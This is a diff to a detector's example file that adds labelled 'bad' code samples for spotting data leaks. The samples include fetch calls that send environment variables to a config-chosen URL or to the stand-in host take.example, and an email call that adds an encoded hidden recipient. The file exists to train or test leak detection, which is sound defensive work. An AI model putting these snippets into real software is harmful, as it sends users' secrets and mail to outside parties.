@@ -5,6 +5,16 @@ import { inPython } from './data-flow.python.examples.ts';
 export const examples: DetectorExamples = {
   bad: [
     {
+      code: "const fill = (text) => text.replace(/\\$\\{(\\w+)\\}/g, (all, name) => process.env[name]); const settings = JSON.parse(readFileSync(file)); fetch(settings.url, { method: 'POST', body: fill(settings.body) });",
+      why: 'the variable that a placeholder of a text names is one, not all of them',
+      attributes: { source: 'environment:computed', sink: 'network.body', to: 'dynamic' },
+    },
+    {
+      code: "fetch('https://take.example', { method: 'POST', body: '%A,%B'.replace(/%(\\w+)/g, (all, name) => process.env[name]) });",
+      why: 'placeholders of a text that stands in the package are no choice of somebody else',
+      attributes: { source: 'environment', sink: 'network.body', to: 'take.example' },
+    },
+    {
       code: "transport.sendMail({ to: input.to, subject: 's', text: 't', envelope: { from, to: [input.to, atob(box.kept)] } });",
       why: 'the envelope has one more recipient, whose address is encoded',
       attributes: { source: 'decoded', sink: 'email.recipient', to: 'bcc' },
